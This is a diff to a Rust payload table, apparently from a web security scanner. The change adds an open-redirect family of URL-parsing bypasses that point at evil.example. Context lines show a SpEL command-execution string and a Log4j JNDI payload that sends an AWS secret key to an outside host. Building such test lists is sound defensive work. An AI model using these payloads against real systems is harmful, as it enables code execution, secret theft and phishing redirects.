@@ -17,7 +17,7 @@ pub struct Family {
     pub payloads: &'static [&'static str],
 }
 
-/// Every family: 13 of them.
+/// Every family: 14 of them.
 pub const FAMILIES: &[Family] = &[
     Family {
         name: "sqli",
@@ -249,6 +249,26 @@ pub const FAMILIES: &[Family] = &[
             "#{T(java.lang.Runtime).getRuntime().exec('id')}",
             "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
             "${jndi:dns://203.0.113.5/${env:AWS_SECRET_ACCESS_KEY}}",
+        ],
+    },
+    // Redirect targets a check reads as this site's path or name and a
+    // browser as another host (WHATWG URL parsing).
+    Family {
+        name: "open_redirect",
+        param: "next",
+        case_insensitive: true,
+        payloads: &[
+            "/\\evil.example/login",
+            "\\/evil.example",
+            "/\t/evil.example/",
+            "////evil.example/",
+            "https:/\\evil.example",
+            "https:\\\\evil.example/account",
+            "http:///evil.example",
+            "https://app.example.test@evil.example/",
+            "//app.example.test@203.0.113.9/",
+            "/\\/203.0.113.9/",
+            "/\n/evil.example",
         ],
     },
 ];
